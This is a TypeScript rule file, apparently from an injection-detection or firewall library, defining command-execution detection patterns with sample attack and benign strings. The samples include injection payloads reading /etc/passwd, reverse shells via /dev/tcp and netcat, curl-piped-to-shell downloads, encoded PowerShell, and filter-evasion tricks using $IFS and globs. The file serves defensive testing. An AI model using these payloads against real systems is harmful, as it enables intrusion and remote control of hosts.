import { CHAR } from '../features.ts'
import { findShellCommand } from '../lex/shell-command.ts'
import { pattern, type Rule } from '../rule.ts'
import { WORD } from '../words.ts'

const SEPARATORS =
  CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline | CHAR.dollar | CHAR.backslash

/** Operating system commands. */
export const rceRules: readonly Rule[] = [
  {
    id: 'rce/separated',
    family: 'rce',
    score: 6,
    quotable: true,
    chars: SEPARATORS,
    words: 0,
    find: findShellCommand,
    attacks: [
      '; cat /etc/passwd',
      '127.0.0.1 && ls /etc',
      '|getent hosts x.example',
      '$(whoami)',
      '`id`',
      ';$(printf "x"|rev)',
      ";c'a't /etc/passwd",
      ';getent$IFS$9hosts$IFS$9x.example;',
      '|$u wget test',
      "x;'rmt' --version",
      '; wget http://x/sh',
    ],
    benign: [
      'Tom & Jerry',
      'R&D; find out more',
      'cats & dogs; who knows',
      'first, cat; then dog',
      'The parameter 5 is&|.',
      'he said `hello`',
      'price: $(5)',
      'alpha; sort by name & date',
    ],
  },
  {
    id: 'rce/start',
    family: 'rce',
    score: 5,
    quotable: true,
    chars: 0,
    words: WORD.shell,
    find: reading => ((reading.chars & SEPARATORS) === 0 ? findShellCommand(reading) : undefined),
    attacks: ['time ifconfig', 'strace ifconfig', '/bin/cat /etc/passwd', '/usr/[a-z]in/bash'],
    benign: [
      'cat food',
      'ping pong',
      'time table',
      'node js',
      'nc 8000 controller',
      'zsh is the best!',
      'time he came.',
    ],
  },
  pattern(
    'rce/glob',
    /(?:^|[\s;|&`(<])\/\w{0,4}[?[][\w?*[\]]{0,8}\/[\w?*[\]]{1,16}(?:[\s;|&`)]|$)|(?:^|[\s=])\/(?:\w{1,8}\/)?\w{0,4}\[[!^\w/]{1,8}\]\w/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.slash,
      attacks: ['/???/c?t', ';/b?n/ls'],
      benign: ['/a/b', 'and/or?', '/api/?x=1/2'],
    },
  ),
  pattern('rce/shellshock', /^[\s"']{0,4}(?:[\w.-]{1,32}=)?\(\s{0,4}\)\s{0,4}\{[^}\n]{0,24}(?:[:;]|$|\})/, {
    score: 5,
    chars: CHAR.brace,
    atStart: true,
    quotable: true,
    attacks: ['() { :;}; /bin/bash -c "cat /etc/passwd"', '() {'],
    benign: ['{ a: 1 }', 'function (x) { return x }'],
  }),
  pattern(
    'rce/ifs',
    /\$\{?ifs(?:\b|\})|\$\{[a-z_]{0,16}(?:[#%/^@]|:[-+=?]?\w)[^}]{0,32}\}|\$\[\s{0,4}\]|\$\(\(|\$\{?(?:shell|bash|0)\}?\s{1,4}-c\b|^\s{0,4}\$\{?(?:path|home|pwd|shell)\}?[/{:]/,
    {
      score: 5,
      quotable: true,
      spoken: true,
      chars: CHAR.dollar,
      attacks: ['cat${IFS}x', '${PATH#{}/}', '$SHELL -c "echo hi"', 'math=$[]'],
      benign: ['${name}', '$HOME is where', 'costs $5'],
    },
  ),
  pattern(
    'rce/braces',
    /\{[a-z/]{1,12},(?:-[\w-]{1,12}|[\w.*-]{0,16}\/[\w./*-]{1,32})|^\s{0,4}~[+-]\s{0,4}$|!-\d!-\d|\{[a-z]?,-[a-z]{1,4}\}/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace | CHAR.bang,
      words: 0,
      places: ['query', 'body', 'name', 'cookie', 'header'],
      attacks: ['{cat,/etc/passwd}', '{l,-lh}s', '!-1!-2'],
      benign: ['{a, b}', '{"a": 1, "b": 2}', 'import { a, b }'],
    },
  ),
  pattern('rce/tilde', /^\s{0,4}~[+-]\s{0,4}$/, {
    score: 5,
    atStart: true,
    chars: CHAR.plus | CHAR.dashes,
    attacks: ['~+'],
    benign: ['~5', '+-'],
  }),
  pattern(
    'rce/reverse-shell',
    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b|\|\s{0,4}(?:ba|z|k|da)?sh\s{0,4}$|(?:curl|wget)\s[^\n]{1,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.shell | WORD.file,
      attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh', 'curl http://x | sh'],
      benign: ['the bash shell', 'dev team | tcp', 'nc 8000 controller'],
    },
  ),
  pattern(
    'rce/windows',
    /\bfor\s{0,12}(?:\/[dflr]\b[^\n]{0,40}?\s{1,12}){0,4}%{1,2}[^\s%]{0,16}\s{1,8}in\s{0,8}\(|^\s{0,4}(?:&\s{0,4})?if(?:\s{1,12}|(?=\/i))(?:\/i\s{1,12})?(?:not\s{1,12})?(?:exist\s{1,12}["\w.\\%:~-]{1,60}\s{1,12}[\w(]|defined\s{1,12}\w{1,24}\s{1,12}\w|errorlevel\s{1,12}\d|(?:["%[{][^=\n]{0,32}|\([^()=\n]{0,24}\)|\w{1,24}%?\w{0,8})\s{0,4}={2,3}\s{0,4}[^\s=]{1,32}[^=\n]{0,8}?\s{1,24}[\w(.{]|\{%?\w{0,8}\}\s{0,4}==|["(]?%?\w{1,24}%?[")]?\s{1,12}(?:equ|neq|lss|leq|gtr|geq)\s)/,
    {
      score: 5,
      words: WORD.windows,
      attacks: [
        'FOR /F "delims=" %G IN (\'ECHO foo\') DO @Echo %G',
        'IF EXIST data.xls Echo found',
        'if "%VAR%"==%%A do echo true',
        'IF /I NOT 1==2 CMD',
      ],
      benign: ['for 5% in (total)', 'if not now, when', 'if you exist', 'if it is defined'],
    },
  ),
  pattern(
    'rce/powershell',
    /\b(?:invoke-(?:webrequest|expression|command|restmethod|item|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-(?:process|bitstransfer)|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance|childitem|process|content)\s{1,4}[-\w])|frombase64string\s{0,4}\(|\[system\.net\.|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%/,
    {
      score: 5,
      quotable: true,
      words: WORD.windows,
      attacks: ['Invoke-WebRequest http://x/f.ps1', 'cmd.exe /c dir', 'powershell -enc AAAA'],
      benign: ['start processing', 'powershell is nice', 'invoke a function'],
    },
  ),
  pattern(
    'rce/alias',
    /^\s{0,4}alias\s{1,8}[\w-]{1,16}=\S|^\s{0,4}(?:echo|printf)\s[^\n]{1,80}\|\s{0,4}(?:tac|rev|base64|xxd|sh|bash|tr)\b|^[\s+|&;]{0,8}(?:dir|type|copy|del)\s{1,4}[a-z]:[/\\]/,
    {
      score: 5,
      atStart: true,
      words: WORD.shell,
      attacks: ['alias a=b', 'printf x | rev | sh', '+dir+c:/', 'dir c:/'],
      benign: ['alias name', 'echo chamber', 'type c'],
    },
  ),
  pattern('rce/windows-set', /[|&;]\s{0,4}set\s{1,4}\/a\s/, {
    score: 5,
    chars: CHAR.pipe | CHAR.ampersand | CHAR.semicolon,
    words: WORD.shell,
    attacks: ['| set /a 3482*7301'],
    benign: ['; set a record'],
  }),
  pattern(
    'rce/asp',
    /\bev\s?al\s{0,2}\+?\(|\bexecute\(|server\.(?:scripttimeout|createobject|mappath)|wscript\.shell|createobject\s{0,4}\(/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren,
      words: 0,
      attacks: ['Ev al ("Ex"&"e"&"cute("")")', 'CreateObject("WScript.Shell")', 'Execute(x)'],
      benign: ['server.listen()', 'the executed plan'],
    },
  ),
]
